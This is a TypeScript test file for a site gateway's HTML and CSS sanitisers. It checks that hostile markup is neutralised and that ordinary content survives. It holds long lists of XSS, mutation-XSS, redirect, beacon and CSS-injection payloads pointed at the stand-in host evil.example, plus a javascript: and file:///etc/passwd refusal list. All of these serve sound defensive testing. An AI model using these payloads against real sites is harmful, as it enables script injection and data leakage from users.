import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import fc from 'fast-check'
import { sanitiseCss } from '../../src/gateway/sites/sanitise-css.ts'
import { sanitiseHtml } from '../../src/gateway/sites/sanitise-html.ts'
import { createSiteUrls } from '../../src/gateway/sites/urls.ts'

const ADDRESS = 'a'.repeat(55) + 'd'
const urls = createSiteUrls({ address: ADDRESS, path: ['docs', 'page.html'], port: 7000 })
const html = (text: string): string => sanitiseHtml(text, urls)
const css = (text: string): string => sanitiseCss(text, 'stylesheet', urls)

/** Where an address in a page may lead without its reader's doing anything. */
const EVIL = 'evil.example'

/** Pages that run, load, send or lead elsewhere if their reader is not protected. */
const HOSTILE: readonly string[] = [
  `<script>location='http://${EVIL}/'</script>`,
  `<script src=//${EVIL}/a.js></script>`,
  `<scr<script>ipt>location='http://${EVIL}/'</script>`,
  `<img src=x onerror="location='http://${EVIL}/'">`,
  `<body onload=fetch('http://${EVIL}/')>`,
  `<meta http-equiv=refresh content="0;url=http://${EVIL}/">`,
  `<META HTTP-EQUIV="Refresh" NAME="viewport" CONTENT="0;url=http://${EVIL}/">`,
  `<noscript><meta http-equiv=refresh content="0;url=http://${EVIL}/"></noscript>`,
  `<base href="http://${EVIL}/"><img src=a.png>`,
  `<link rel=preconnect href="http://${EVIL}/">`,
  `<link rel="dns-prefetch stylesheet" href="//${EVIL}/">`,
  `<link rel=prefetch href="http://${EVIL}/"><link rel=preload as=image href="http://${EVIL}/">`,
  `<link rel=modulepreload href="http://${EVIL}/"><link rel=prerender href="http://${EVIL}/">`,
  `<link rel=manifest href="http://${EVIL}/"><link rel=stylesheet href="http://${EVIL}/a.css">`,
  `<link rel=icon href="http://${EVIL}/a.ico">`,
  `<img src="http://${EVIL}/a.png"><img src="//${EVIL}/a.png"><img src="\\\\${EVIL}\\a.png">`,
  `<img src="https:/${EVIL}/a.png"><img src="ht\ntp://${EVIL}/a"><img src=" http://${EVIL}/a">`,
  `<img src="/..//${EVIL}/a.png"><img src=".//${EVIL}/a.png">`,
  `<img srcset="http://${EVIL}/a.png 2x, b.png 1x"><img srcset="//${EVIL}/a.png">`,
  `<picture><source srcset="http://${EVIL}/a.webp"><img src=a.png></picture>`,
  `<img lowsrc="http://${EVIL}/a" dynsrc="http://${EVIL}/a">`,
  `<video poster="http://${EVIL}/a.png" src="http://${EVIL}/a.mp4"></video>`,
  `<audio src="http://${EVIL}/a.ogg"></audio><video><track src="http://${EVIL}/a.vtt"></video>`,
  `<body background="http://${EVIL}/a.png"><table background="http://${EVIL}/a.png"><td background="http://${EVIL}/">`,
  `<iframe src="http://${EVIL}/"></iframe><iframe srcdoc="<script>1</script>"></iframe>`,
  `<object data="http://${EVIL}/"></object><embed src="http://${EVIL}/"><applet code="http://${EVIL}/">`,
  `<frameset><frame src="http://${EVIL}/"></frameset>`,
  `<form action="http://${EVIL}/"><input name=a><button formaction="http://${EVIL}/">go</button></form>`,
  `<input type=image src="http://${EVIL}/a.png">`,
  `<a href="x" ping="http://${EVIL}/">a</a><a href="javascript:location='http://${EVIL}/'">b</a>`,
  `<a href="java&#10;script:fetch('http://${EVIL}/')">c</a><a href="data:text/html,<script>1</script>">d</a>`,
  `<svg><script>location='http://${EVIL}/'</script><image href="http://${EVIL}/a.png"/></svg>`,
  `<svg><use href="http://${EVIL}/a.svg#x"/><a xlink:href="javascript:1"><text>x</text></a></svg>`,
  `<svg onload="location='http://${EVIL}/'"><set attributeName=href to="http://${EVIL}/"></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="location='http://${EVIL}/'"></style></table></mtext></math>`,
  `<svg></p><style><a id="</style><img src=x onerror=location='http://${EVIL}/'>">`,
  `<noscript><p title="</noscript><img src=x onerror=location='http://${EVIL}/'>">`,
  `<textarea></textarea/><img src="http://${EVIL}/a"></textarea>`,
  `<template><img src="http://${EVIL}/a"></template><xmp><img src="http://${EVIL}/a"></xmp>`,
  `<title></title/><meta http-equiv=refresh content="0;url=http://${EVIL}/"></title>`,
  `<style></warren-style><meta http-equiv=refresh content="0;url=http://${EVIL}/"></style>`,
  `<style>p{}</style/><img src="http://${EVIL}/a"></style>`,
  `<warren-style>p{background:url(http://${EVIL}/)}</warren-style>`,
  `<style>@import "http://${EVIL}/a.css"; @import url(//${EVIL}/a.css); p{background:url(http://${EVIL}/a)}</style>`,
  `<p style="background:url(http://${EVIL}/a)">a</p><p style="background:u\\72l(http://${EVIL}/a)">b</p>`,
  `<p style="behavior:url(http://${EVIL}/a);-moz-binding:url(http://${EVIL}/a)">a</p>`,
  `<p style="width:expression(location='http://${EVIL}/')">a</p>`,
  `<p style='background:image-set("http://${EVIL}/a" 1x)'>a</p>`,
  `<!--><img src="http://${EVIL}/a">--><!-- --!><img src="http://${EVIL}/b">`,
  `<![CDATA[<img src="http://${EVIL}/a">]]><?xml-stylesheet href="http://${EVIL}/a"?>`,
  `<script>new RTCPeerConnection({iceServers:[{urls:'stun:${EVIL}'}]})</script>`,
  `<dialog open><img src="http://${EVIL}/a"></dialog><portal src="http://${EVIL}/"></portal>`,
  `<a href="http://${EVIL}/" rel=opener target=_blank>out</a>`,
]

/** Hosts that a page's attributes name, but for what its reader has to click. */
function hostsOf(page: string): string[] {
  const tags = page.replaceAll(/<(?:a|area) [^>]*>/g, '').match(/<[^>]*>/g) ?? []
  const values = tags.flatMap((tag) => [...tag.matchAll(/="([^"]*)"/g)].map((match) => match[1] ?? ''))
  const addresses = values.flatMap((value) => value.split(/[\s,;()]+/))
  return addresses.flatMap((text) => {
    const base = 'http://own.localhost/docs/'
    return URL.canParse(text, base) ? [new URL(text, base).hostname] : []
  })
}

const withoutStart = (page: string): string => page.replace(/^<!doctype html>/i, '').trimStart()

describe('pages of sites', () => {
  for (const page of HOSTILE) {
    test(`nothing runs, loads or leads elsewhere of: ${JSON.stringify(page).slice(0, 90)}`, () => {
      const written = html(page)
      assert.ok(!hostsOf(written).includes(EVIL), written)
      for (const [style] of written.matchAll(/<style[^>]*>[^<]*<\/style>/g))
        assert.ok(!style.includes(EVIL), style)
      assert.doesNotMatch(
        written,
        /<(script|iframe|object|embed|svg|math|base|form|frame|template|meta http)/i,
      )
      assert.doesNotMatch(
        written.replaceAll(/"[^"]*"/g, '""'),
        /<[^>]+\s(on\w+|ping|action|formaction|srcdoc|http-equiv|target|background)=/i,
      )
      assert.doesNotMatch(written, /(href|src)="\s*(javascript|vbscript|data:text|\/\/|\\)/i)
      // Once more changes nothing: what was written is what a parser reads.
      assert.equal(withoutStart(html(written)), withoutStart(written))
    })
  }

  test('what people write stays', () => {
    const page = `<html lang="en"><head><title>A &amp; B</title><link rel="stylesheet" href="../style.css"></head>
<body><h1 id="top">Hello</h1><p class="a" style="color:red">see <a href="other.html#x">other</a> and <a href="#top">top</a></p>
<img src="p.png" alt="a" srcset="p2.png 2x"><table><tr><td colspan="2">x</td></tr></table></body></html>`
    const written = html(page)
    for (const kept of [
      '<title>A &amp; B</title>',
      'href="/style.css"',
      '<h1 id="top">',
      'style="color:red"',
      'href="/docs/other.html#x"',
      'href="#top"',
      'src="/docs/p.png"',
      'srcset="/docs/p2.png 2x"',
      '<td colspan="2">',
    ])
      assert.ok(written.includes(kept), kept)
  })

  test('links lead to the site, to other sites here, or to the page that says where they would lead', () => {
    const other = 'b'.repeat(56)
    assert.equal(urls.link(`http://${other}.warren/a?b#c`), `http://${other}.localhost:7000/a?b#c`)
    assert.equal(urls.link(`http://${ADDRESS}.warren/a`), '/a')
    assert.equal(urls.link('warren:AbC-1'), 'http://localhost:7000/w/AbC-1')
    assert.equal(urls.link('https://a.example/?x=1'), '/.warren/leave?to=https%3A%2F%2Fa.example%2F%3Fx%3D1')
    assert.equal(urls.link('//a.example/'), '/.warren/leave?to=http%3A%2F%2Fa.example%2F')
    assert.equal(urls.link('mailto:a@b.example'), '/.warren/leave?to=mailto%3Aa%40b.example')
    for (const refused of [
      'javascript:1',
      'data:text/html,x',
      'blob:http://a/',
      'file:///etc/passwd',
      'about:blank',
      'chrome://x',
    ])
      assert.equal(urls.link(refused), undefined)
  })

  test('no address leads a page to anything but itself and pictures in it', () => {
    fc.assert(
      fc.property(
        fc.oneof(
          fc.webUrl(),
          fc.string(),
          fc
            .tuple(fc.constantFrom('//', '\\\\', '/\\', 'http:', '/../', '\t//', './/'), fc.string())
            .map((all) => all.join('')),
        ),
        (text) => {
          const led = urls.resource(text)
          if (led === undefined) return
          const url = new URL(led, 'http://own.localhost:7000/docs/')
          assert.equal(url.host, 'own.localhost:7000')
        },
      ),
      { numRuns: 2000 },
    )
    assert.match(urls.resource('data:image/png;base64,AAAA') ?? '', /^data:image\/png/)
    assert.equal(urls.resource('data:image/svg+xml;base64,AAAA'), undefined)
  })

  test('a page nested beyond all measure is shown without overflow', () => {
    assert.ok(html('<div>'.repeat(5000)).length < 100_000)
    assert.ok(css(`${'@media all{'.repeat(20_000)}p{}`).length < 1_000_000)
  })
})

describe('style sheets of sites', () => {
  const KEPT: Readonly<Record<string, string>> = {
    'p{color:red;margin:0 auto}': 'p{color:red;margin:0 auto}',
    'p{background:url(a.png)}': 'p{background:url(/docs/a.png)}',
    '@media (max-width:40rem){p{display:grid}}': '@media (max-width:40rem){p{display:grid}}',
    ':root{--a:1px}p{width:calc(var(--a)*2)}': ':root{--a:1px}p{width:calc(var(--a)*2)}',
    '@font-face{font-family:a;src:url(f.woff2)format("woff2")}':
      '@font-face{font-family:a;src:url(/docs/f.woff2)format("woff2")}',
    '@import "b.css";': '@import url(/docs/b.css);',
    '@keyframes a{0%{opacity:0}to{opacity:1}}': '@keyframes a{0%{opacity:0}to{opacity:1}}',
    'a[href^="http"]::after{content:"x"}': 'a[href^="http"]::after{content:"x"}',
  }
  for (const [given, written] of Object.entries(KEPT))
    test(`${given} stays`, () => assert.equal(css(given), written))

  const GONE = [
    `p{background:url(http://${EVIL}/a)}`,
    `p{background:URL("//${EVIL}/a")}`,
    `p{background:u\\72l(http://${EVIL}/a)}`,
    `p{background:\\75rl(http://${EVIL}/a)}`,
    `p{background:image-set("http://${EVIL}/a" 1x)}`,
    `p{background:-webkit-image-set(url(http://${EVIL}/a) 1x)}`,
    `p{background:src("http://${EVIL}/a")}`,
    `p{background:element(#a);width:attr(data-a url)}`,
    `p{--a:url(http://${EVIL}/a);background:var(--a)}`,
    `p{--a:url(http://${EVIL}/a`,
    `@import "http://${EVIL}/a.css";`,
    `@import url("http://${EVIL}/a.css") layer(x) supports(display:grid);`,
    `@IMPORT 'http://${EVIL}/a.css';`,
    `@\\69mport "http://${EVIL}/a.css";`,
    `@namespace "http://${EVIL}/";`,
    `@document url(http://${EVIL}/){p{color:red}}`,
    `@font-face{font-family:a;src:url(http://${EVIL}/f.woff2)}`,
    `p{behavior:url(a.htc);-moz-binding:url(a.xml)}`,
    `p{width:expression(alert(1))}`,
    `p{list-style:url(http://${EVIL}/a);cursor:url(http://${EVIL}/a),auto}`,
    `p{filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src='http://${EVIL}/a')}`,
    `<!-- p{background:url(http://${EVIL}/a)} -->`,
    `p{content:url(http://${EVIL}/a)}p::after{content:"</style><meta http-equiv=refresh>"}`,
    `@media url(http://${EVIL}/a){p{color:red}}`,
    `@supports (background:url(http://${EVIL}/a)){p{color:red}}`,
    `p{mask:url(http://${EVIL}/a#b);clip-path:url(http://${EVIL}/a#b)}`,
  ]
  for (const given of GONE) {
    test(`of ${given.slice(0, 70)} nothing is left that loads or ends the sheet`, () => {
      const written = css(given)
      assert.doesNotMatch(written, /evil|url\(http|expression|binding|behavior|image-set|</i)
    })
  }
})
